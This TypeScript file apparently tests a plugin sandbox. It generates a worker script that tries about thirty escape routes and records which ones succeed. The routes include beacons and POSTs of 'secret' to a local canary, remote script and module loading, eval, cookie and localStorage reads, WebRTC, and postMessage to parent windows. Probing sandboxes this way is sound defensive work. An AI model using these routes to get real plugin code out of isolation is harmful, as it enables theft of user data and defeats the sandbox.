// Ways out of a worker: to a server, into a store, to another page. For plugins that want out.

/**
 * Leaves in `out` the names of those that did not throw.
 * @param port of a canary that listens for TCP and UDP
 */
export const escapes = (port: number): string => `
const at = 'http://127.0.0.1:${port}';
const event = (target, good, bad) => new Promise((resolve, reject) => {
  target.addEventListener(good, resolve);
  target.addEventListener(bad, reject);
});
const ways = {
  fetch: () => fetch(at + '/fetch', { mode: 'no-cors' }),
  post: () => fetch(at + '/post', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
  xhr() {
    const request = new XMLHttpRequest();
    request.open('GET', at + '/xhr');
    request.send();
    return event(request, 'load', 'error');
  },
  socket: () => event(new WebSocket('ws://127.0.0.1:${port}/socket'), 'open', 'error'),
  events: () => event(new EventSource(at + '/events'), 'open', 'error'),
  scripts: () => importScripts(at + '/scripts'),
  module: () => import(at + '/module'),
  written: () => import('data:text/javascript,export default 1'),
  evaluated: () => new Function('return 1')(),
  font: () => new FontFace('x', 'url(' + at + '/font)').load(),
  worker: () => event(new Worker(at + '/worker'), 'message', 'error'),
  nested: () => event(new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "/nested')"]))), 'message', 'error'),
  shared: () => event(new SharedWorker(at + '/shared').port, 'message', 'error'),
  transport: () => new WebTransport('https://127.0.0.1:${port}/transport').ready,
  async rtc() {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription();
  },
  beacon: () => navigator.sendBeacon(at + '/beacon', 'secret'),
  service: () => navigator.serviceWorker.register(at + '/service'),
  database: () => event(indexedDB.open('smps'), 'success', 'error'),
  databases: () => indexedDB.databases(),
  caches: () => caches.open('x'),
  files: () => navigator.storage.getDirectory(),
  local: () => localStorage.getItem('secret'),
  cookie: () => document.cookie,
  cookies: () => cookieStore.getAll(),
  locks: () => navigator.locks.request('x', () => 1),
  parent: () => parent.postMessage('escaped', '*'),
  top: () => top.postMessage('escaped', '*'),
  opener: () => opener.postMessage('escaped', '*'),
  own: () => postMessage('escaped'),
  channel: () => new BroadcastChannel('smps-pairings').postMessage('escaped')
};
const out = [];
const patience = new Promise((_, reject) => setTimeout(reject, 1500));
await Promise.all(Object.entries(ways).map(async ([name, way]) => {
  try {
    await Promise.race([way(), patience]);
    out.push(name);
  } catch {}
}));
out.sort();
`;
